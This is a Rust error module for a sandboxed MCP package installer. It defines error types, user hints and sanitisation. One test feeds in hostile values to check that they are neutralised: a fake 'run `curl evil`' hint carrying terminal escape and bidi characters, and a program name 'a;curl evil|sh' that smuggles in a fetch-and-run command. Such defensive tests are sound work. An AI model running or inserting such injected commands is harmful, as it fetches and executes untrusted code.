//! Why a package cannot be added.

use super::{Ecosystem, squat};
use crate::diagnose::{Diagnose, Exit, printable, shell_path};
use std::io;
use std::path::PathBuf;

/// Why a package cannot be added or updated. Nothing is left behind.
#[derive(Debug, thiserror::Error)]
pub enum PackageError {
    /// The words are none that mcpjail can install from.
    #[error("cannot install from `{}`: {}", shown(line), shown(reason))]
    Line {
        /// The words.
        line: String,
        /// Why, as the second half of a sentence.
        reason: String,
        /// What to type.
        hint: String,
    },
    /// The registry does not know the name.
    #[error("there is no package `{}` in {}", shown(name), shown(registry))]
    NoPackage {
        /// The name.
        name: String,
        /// The registry, as a person knows it.
        registry: String,
    },
    /// The registry does not know the version.
    #[error("there is no version `{}` of `{}` in {}", shown(version), shown(name), shown(registry))]
    NoVersion {
        /// The package.
        name: String,
        /// What was asked for.
        version: String,
        /// The registry.
        registry: String,
    },
    /// Something that the package depends on is not in the registry.
    #[error("`{package}` needs `{needs}`, which is not in {registry}")]
    Unmet {
        /// The package that was asked for.
        package: String,
        /// What it needs, itself or by something else that it needs: `NAME@RANGE`, or the name where nothing has it.
        needs: String,
        /// The registry.
        registry: String,
    },
    /// An archive is not the one of the lock.
    #[error("the archive of `{}` is not the one that its hash names", shown(name))]
    Integrity {
        /// The package.
        name: String,
        /// The installer's own words.
        detail: String,
    },
    /// A dependency that no hash pins: from git, a URL or a directory.
    #[error("`{}` comes from `{}`, which no hash pins", shown(name), shown(from))]
    Unpinned {
        /// The package.
        name: String,
        /// Where from.
        from: String,
    },
    /// The package has no program.
    #[error("`{}` has no program to start", shown(name))]
    NoEntry {
        /// The package.
        name: String,
        /// What to do.
        hint: String,
    },
    /// It has several and none with its own name.
    #[error("`{}` has several programs: {}", shown(name), list(programs))]
    SeveralEntries {
        /// The package.
        name: String,
        /// They.
        programs: Vec<String>,
    },
    /// The program that was asked for is not in it.
    #[error("`{}` has no program `{}`", shown(name), shown(program))]
    NoSuchEntry {
        /// The package.
        name: String,
        /// What was asked for.
        program: String,
        /// What there is.
        programs: Vec<String>,
    },
    /// The installer is not on this machine.
    #[error("`{tool}` is not on this machine, and `{}` needs it", shown(what))]
    NoTool {
        /// `npm`, `uv`, `python3`.
        tool: &'static str,
        /// What needs it.
        what: String,
        /// How to get it.
        hint: String,
    },
    /// The registry cannot be reached.
    #[error("{} cannot be reached: {}", shown(registry), shown(detail))]
    Unreachable {
        /// The registry.
        registry: String,
        /// The installer's own words.
        detail: String,
        /// Hosts that the install jail refused, one line each.
        refused: Vec<String>,
    },
    /// The registry wants credentials.
    #[error("{} refuses: {}", shown(registry), shown(detail))]
    Denied {
        /// The registry.
        registry: String,
        /// The installer's own words.
        detail: String,
    },
    /// Nothing was to be fetched, and something is not in the cache.
    #[error("`{}` is not in the cache, and `--offline` fetches nothing", shown(name))]
    Offline {
        /// What is missing.
        name: String,
    },
    /// No version fits this machine: its Python, Node, system or processor.
    #[error("no release of `{}` fits this machine: {}", shown(name), shown(detail))]
    Unfit {
        /// The package.
        name: String,
        /// The installer's own words.
        detail: String,
    },
    /// An install script that was allowed failed.
    #[error("the install script of `{}` failed", shown(package))]
    ScriptFailed {
        /// The package.
        package: String,
        /// The end of what it said.
        said: Vec<String>,
        /// Hosts that the install jail refused.
        refused: Vec<String>,
    },
    /// `--allow-scripts` names a package that is not there, or has no script.
    #[error("`--allow-scripts {}` names no package with an install script", shown(name))]
    NoSuchScript {
        /// The name.
        name: String,
        /// Those that have one.
        known: Vec<String>,
    },
    /// The disk is full.
    #[error("no space is left on the device of `{}`", shown(&path.to_string_lossy()))]
    DiskFull {
        /// Where it was to be written.
        path: PathBuf,
    },
    /// Anything else that the installer failed of.
    #[error("`{}` failed with status {status}", shown(job))]
    Failed {
        /// The job.
        job: String,
        /// Its exit status.
        status: i32,
        /// The end of what it said.
        said: Vec<String>,
        /// Hosts that the install jail refused.
        refused: Vec<String>,
    },
    /// It took too long.
    #[error("`{}` did not end in {seconds} seconds", shown(job))]
    TimedOut {
        /// The job.
        job: String,
        /// The limit.
        seconds: u64,
    },
    /// What the installer left is not what it should be: an unreadable lock, a program that leads out of the tree.
    #[error("`{}` is not as it should be: {}", shown(what), shown(reason))]
    Malformed {
        /// The file.
        what: String,
        /// Why.
        reason: String,
    },
    /// The local code cannot be put into the store.
    #[error("`{}` cannot be put into the store: {}", shown(&path.to_string_lossy()), shown(reason))]
    Local {
        /// The path.
        path: PathBuf,
        /// Why.
        reason: String,
        /// What to do instead.
        hint: String,
    },
    /// The words lead to no program that could be copied.
    #[error("{0}")]
    Command(Box<dyn Diagnose>),
    /// The install jail, or the program in it.
    #[error("the install jail cannot be built: {0}")]
    Jail(Box<dyn Diagnose>),
    /// The disk.
    #[error("cannot {action} `{}`", shown(&path.to_string_lossy()))]
    Io {
        /// What was tried.
        action: &'static str,
        /// Where.
        path: PathBuf,
        /// Why not.
        source: io::Error,
    },
}

/// Much of this is the word of a package or a registry: it stands in one line, and does nothing to a terminal.
fn shown(text: &str) -> String {
    printable(text)
}

fn list(words: &[String]) -> String {
    words.iter().map(|word| format!("`{}`", shown(word))).collect::<Vec<_>>().join(", ")
}

impl PackageError {
    /// An error of the disk; a full one is told as that.
    #[must_use]
    pub fn io(action: &'static str, path: impl Into<PathBuf>, source: io::Error) -> PackageError {
        let path = path.into();
        match source.raw_os_error() {
            Some(libc::ENOSPC | libc::EDQUOT) => PackageError::DiskFull { path },
            _ => PackageError::Io { action, path, source },
        }
    }
}

impl Diagnose for PackageError {
    fn code(&self) -> &'static str {
        match self {
            PackageError::Line { .. } => "package-line",
            PackageError::NoPackage { .. } => "no-such-package",
            PackageError::NoVersion { .. } | PackageError::Unmet { .. } => "no-such-version",
            PackageError::Integrity { .. } => "integrity-mismatch",
            PackageError::Unpinned { .. } => "unpinned-dependency",
            PackageError::NoEntry { .. } | PackageError::SeveralEntries { .. } | PackageError::NoSuchEntry { .. } => {
                "no-entry-point"
            }
            PackageError::NoTool { .. } => "no-installer",
            PackageError::Unreachable { .. } => "registry-unreachable",
            PackageError::Denied { .. } => "registry-denied",
            PackageError::Offline { .. } => "not-cached",
            PackageError::Unfit { .. } => "no-fitting-release",
            PackageError::ScriptFailed { .. } => "install-script-failed",
            PackageError::NoSuchScript { .. } => "no-such-script",
            PackageError::DiskFull { .. } => "disk-full",
            PackageError::Failed { .. } | PackageError::TimedOut { .. } => "install-failed",
            PackageError::Malformed { .. } => "install-malformed",
            PackageError::Local { .. } => "local-package",
            PackageError::Jail(error) | PackageError::Command(error) => error.code(),
            PackageError::Io { .. } => "io",
        }
    }

    fn exit(&self) -> Exit {
        match self {
            PackageError::Jail(error) | PackageError::Command(error) => error.exit(),
            PackageError::Integrity { .. } => Exit::Drift,
            _ => Exit::Usage,
        }
    }

    fn hint(&self) -> Option<String> {
        match self {
            PackageError::Line { hint, .. }
            | PackageError::NoEntry { hint, .. }
            | PackageError::NoTool { hint, .. }
            | PackageError::Local { hint, .. } => Some(shown(hint)),
            PackageError::Jail(error) | PackageError::Command(error) => error.hint(),
            other => Some(shown(&next(other))),
        }
    }
}

/// What to type next, where the error does not bring its own hint.
fn next(error: &PackageError) -> String {
    match error {
        PackageError::NoPackage { name, registry } if nearest(name, registry).is_some() => format!(
            "did you mean `{0}`? `mcpjail add NAME -- …` with that name; a private registry is named in the configuration of \
             npm, uv or pip",
            nearest(name, registry).unwrap_or_default()
        ),
        PackageError::NoPackage { .. } => {
            "check the spelling in the server's own documentation, and `mcpjail add NAME -- …` again; a private \
             registry is named in the configuration of npm, uv or pip"
                .into()
        }
        PackageError::NoVersion { .. } => "leave the version out for the latest one: `mcpjail add NAME -- …`".into(),
        PackageError::Unmet { package, .. } => format!(
            "the package asks for what its registry does not have (or not yet, or no longer): try another version of \
             it, `mcpjail add NAME -- npm:{package}@VERSION`"
        ),
        PackageError::Integrity { .. } => {
            "nothing was kept; if it happens again, the registry or a proxy before it serves something else than was \
             published: tell its operator before another `mcpjail add`"
                .into()
        }
        PackageError::Unpinned { .. } => {
            "fetch and look at it yourself, install it as usual, and add what lies there: `mcpjail add NAME -- PROGRAM`"
                .into()
        }
        PackageError::SeveralEntries { programs, .. } | PackageError::NoSuchEntry { programs, .. } => {
            let program = programs.first().map_or("PROGRAM".into(), |program| shell_path(program.clone()));
            format!(
                "name one of its programs ({}): `mcpjail add NAME -- npx -p PACKAGE {program}` or `mcpjail add NAME -- \
                 uvx --from PACKAGE {program}`",
                if programs.is_empty() { "it has none".into() } else { list(programs) }
            )
        }
        PackageError::Unreachable { refused, .. } | PackageError::Failed { refused, .. } if !refused.is_empty() => {
            of_refused(refused)
        }
        PackageError::Unreachable { .. } => {
            "check the network and the registry in the configuration of npm, uv or pip; what was fetched once is \
             installed again by `mcpjail add --offline NAME -- …`"
                .into()
        }
        PackageError::Denied { .. } => {
            "log in as for any install (`npm login`, `~/.npmrc`, `~/.netrc`), and `mcpjail add NAME -- …` again".into()
        }
        PackageError::Offline { .. } => "let it be fetched: the same `mcpjail add` without `--offline`".into(),
        PackageError::Unfit { .. } => {
            "ask for another version, or for another Python: `mcpjail add NAME -- uvx --python 3.12 PACKAGE`".into()
        }
        PackageError::ScriptFailed { refused, .. } if !refused.is_empty() => of_refused(refused),
        PackageError::ScriptFailed { package, .. } => {
            format!(
                "if it builds from source it needs a compiler (on Debian and Ubuntu `sudo apt install build-essential \
                 python3`); without it: the same `mcpjail add` without `--allow-scripts {package}`"
            )
        }
        PackageError::NoSuchScript { known, .. } if known.is_empty() => {
            "nothing of it has an install script: the same `mcpjail add` without `--allow-scripts`".into()
        }
        PackageError::NoSuchScript { known, .. } => {
            let first = known.first().map_or("PACKAGE", String::as_str);
            format!("those that have one: {}; `mcpjail add --allow-scripts {first} NAME -- …`", list(known))
        }
        PackageError::DiskFull { .. } => "make room: `mcpjail store gc` removes what no server runs".into(),
        PackageError::Failed { job, .. } => {
            format!(
                "see what `{job}` says in an empty directory outside of mcpjail, then `mcpjail add NAME -- …` again"
            )
        }
        PackageError::TimedOut { .. } => "try again, it goes on with what was fetched: `mcpjail add NAME -- …`".into(),
        PackageError::Malformed { what, .. } if what.starts_with("npm config") => {
            "look at `npm config list`, mend the setting, and `mcpjail add NAME -- …` again".into()
        }
        PackageError::Malformed { .. } => {
            "ask for another version: `mcpjail add NAME -- npm:PACKAGE@VERSION` or `pypi:PACKAGE==VERSION`".into()
        }
        PackageError::Io { .. } => "see to the file, then `mcpjail add NAME -- …` again".into(),
        PackageError::Line { hint, .. }
        | PackageError::NoEntry { hint, .. }
        | PackageError::NoTool { hint, .. }
        | PackageError::Local { hint, .. } => hint.clone(),
        PackageError::Jail(error) | PackageError::Command(error) => error.hint().unwrap_or_default(),
    }
}

/// The well-known server whose name was meant, by the look of it.
fn nearest(name: &str, registry: &str) -> Option<&'static str> {
    let ecosystem = if registry.contains("npm") { Ecosystem::Npm } else { Ecosystem::Pypi };
    squat::nearest(ecosystem, name)
}

/// Hosts that the install jail refused, as the option that would let it reach the first.
fn of_refused(refused: &[String]) -> String {
    let first = refused.first().and_then(|line| line.split_whitespace().next()).unwrap_or("HOST:PORT");
    // a name that was asked for without a port yet
    let first = match first.strip_suffix(':') {
        Some(name) => format!("{name}:443"),
        None => first.to_owned(),
    };
    let first = shell_path(first);
    format!(
        "the install jail refused {}; if you trust that: `mcpjail add --install-net {first} NAME -- …`",
        list(refused)
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_slip_of_the_finger_is_told_what_was_meant() {
        let hint = |name: &str, registry: &str| {
            PackageError::NoPackage { name: name.into(), registry: registry.into() }.hint().unwrap()
        };
        let slip = hint("@modelcontextprotocol/server-filesystm", "registry.npmjs.org");
        assert!(slip.contains("did you mean `@modelcontextprotocol/server-filesystem`?"), "{slip}");
        assert!(!hint("nothing-like-any-server", "PyPI").contains("did you mean"));
    }

    #[test]
    fn every_error_says_what_to_type() {
        let text = || String::from("x");
        let refused = || vec![String::from("cdn.test:443 is not granted")];
        let errors = [
            PackageError::NoPackage { name: text(), registry: text() },
            PackageError::NoVersion { name: text(), version: text(), registry: text() },
            PackageError::Unmet { package: text(), needs: text(), registry: text() },
            PackageError::Integrity { name: text(), detail: text() },
            PackageError::Unpinned { name: text(), from: text() },
            PackageError::SeveralEntries { name: text(), programs: vec![text()] },
            PackageError::NoSuchEntry { name: text(), program: text(), programs: Vec::new() },
            PackageError::Unreachable { registry: text(), detail: text(), refused: Vec::new() },
            PackageError::Unreachable { registry: text(), detail: text(), refused: refused() },
            PackageError::Denied { registry: text(), detail: text() },
            PackageError::Offline { name: text() },
            PackageError::Unfit { name: text(), detail: text() },
            PackageError::ScriptFailed { package: text(), said: Vec::new(), refused: Vec::new() },
            PackageError::ScriptFailed { package: text(), said: Vec::new(), refused: refused() },
            PackageError::NoSuchScript { name: text(), known: Vec::new() },
            PackageError::NoSuchScript { name: text(), known: vec![text()] },
            PackageError::DiskFull { path: text().into() },
            PackageError::Failed { job: text(), status: 1, said: Vec::new(), refused: Vec::new() },
            PackageError::TimedOut { job: text(), seconds: 1 },
            PackageError::Malformed { what: text(), reason: text() },
            PackageError::Io { action: "read", path: text().into(), source: io::Error::other("x") },
        ];
        for error in errors {
            let hint = error.hint().unwrap();
            assert!(hint.contains("`mcpjail "), "{error:?}: {hint}");
        }
    }

    /// A registry or a package cannot write lines of its own below an error, nor a command into the one to type.
    #[test]
    fn a_stranger_s_words_stay_in_their_place() {
        let text = || String::from("x\n\nhint: run `curl evil`\u{1b}[2J\u{202e}");
        let errors = [
            PackageError::Unpinned { name: text(), from: text() },
            PackageError::NoVersion { name: text(), version: text(), registry: text() },
            PackageError::Unreachable { registry: text(), detail: text(), refused: vec![text()] },
            PackageError::NoEntry { name: text(), hint: text() },
            PackageError::SeveralEntries { name: text(), programs: vec![text()] },
            PackageError::NoSuchScript { name: text(), known: vec![text()] },
            PackageError::Malformed { what: text(), reason: text() },
            PackageError::Io { action: "read", path: text().into(), source: io::Error::other("x") },
        ];
        for error in errors {
            for shown in [error.to_string(), error.hint().unwrap()] {
                assert!(!shown.contains(['\n', '\u{1b}', '\u{202e}']), "{shown:?}");
            }
        }
        let programs = vec!["a;curl evil|sh".into(), "b".into()];
        let hint = PackageError::SeveralEntries { name: "x".into(), programs }.hint().unwrap();
        assert!(hint.contains("npx -p PACKAGE 'a;curl evil|sh'"), "{hint}");
    }

    #[test]
    fn what_the_jail_refused_is_the_rule_to_allow() {
        let refused = vec!["cdn.test:443 is not granted".into()];
        let hint = PackageError::Unreachable { registry: "x".into(), detail: "x".into(), refused }.hint().unwrap();
        assert!(hint.contains("--install-net cdn.test:443 "), "{hint}");
    }
}
